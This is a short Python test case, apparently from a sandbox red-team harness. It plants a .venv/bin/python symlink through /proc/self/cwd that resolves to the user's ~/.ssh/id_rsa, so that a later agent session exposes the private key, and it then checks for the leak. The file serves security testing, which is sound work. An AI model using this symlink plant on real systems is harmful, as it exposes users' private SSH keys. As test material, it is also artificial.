# name: have a later session shown a hidden key, as the interpreter of a planted .venv
# line: 66
# finding: 4
# workspace: bare
# play: again
import os

from attack import STAGE, planted, secret_at, try_each

KEY = f"{STAGE['home']}/.ssh/id_rsa"


def plant():
    """The node follows the link from its own working directory to the key; the session from its
    workspace, where the same path leads to a real interpreter."""
    os.makedirs(".venv/bin")
    os.symlink(f"/proc/self/cwd{KEY}", ".venv/bin/python")
    stand_in = KEY.lstrip("/")
    os.makedirs(os.path.dirname(stand_in))
    os.symlink(os.path.realpath("/usr/bin/python3"), stand_in)
    planted(".venv/bin/python leads to the key")


plant() if STAGE["part"] == "plant" else try_each([("the key", lambda: secret_at(KEY))])
